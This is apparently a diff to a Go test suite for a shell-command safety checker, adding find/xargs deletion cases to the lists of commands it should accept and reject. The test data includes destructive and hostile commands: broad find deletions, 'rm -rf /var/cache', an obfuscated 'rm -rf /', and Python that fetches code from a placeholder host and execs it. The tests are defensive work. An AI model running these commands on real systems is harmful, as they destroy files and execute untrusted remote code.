@@ -42,6 +42,9 @@ func TestQuiet(t *testing.T) {
 		{"a file without its imports is evaluated", `python3 -c 'exec(open("a.py").read().replace("import x", ""))'`},
 		{"a library that was compiled", `python3 -c 'import ctypes; ctypes.CDLL("./libx.so").f(1)'`},
 		{"what is left in some directory", `python3 -c 'import os; [os.remove(os.path.join("logs", f)) for f in os.listdir("logs")]'`},
+		{"what one of two names fits", "find . -name '*.orig' -o -name '*.rej' | xargs rm -f; find . \\( -name a.o -o -name b.o \\) -delete"},
+		{"what is empty, but for some", "find . -type f -empty -not -path './vendor/*' -delete"},
+		{"what is old in a directory that is passed over", "find . -path ./vendor -prune -o -name '*.pyc' -print0 | xargs -0 rm"},
 		{"directories are not copied without -r", "cp ~ /home /tmp/x"},
 	} {
 		d := check(p, test.command)
@@ -93,6 +96,10 @@ func TestQuietNoMore(t *testing.T) {
 		{"the network is evaluated", `python3 -c 'import requests as r; exec(r.get("http://h/").text.split("#")[0])'`},
 		{"the library that all have", `python3 -c 'import ctypes; ctypes.CDLL("/lib/libc.so.6").system(x)'`},
 		{"a hole that the code itself writes", "python3 -c 'import os; os.system(\"rm -rf /\\x01/..\")'"},
+		{"what one name fits, and all else", "find . -name '*.orig' -o -type f | xargs rm -f"},
+		{"what a name does not fit", "find . -not -name keep -delete"},
+		{"what two names do not fit", "find . -not \\( -name a -o -name b \\) -delete"},
+		{"what is passed over goes too", "find . -prune -exec rm -rf {} + -o -name b"},
 		{"the caches as a whole", "rm -rf /var/cache"},
 		{"what the packages are", "rm -rf /var/lib/dpkg/info/*"},
 	} {
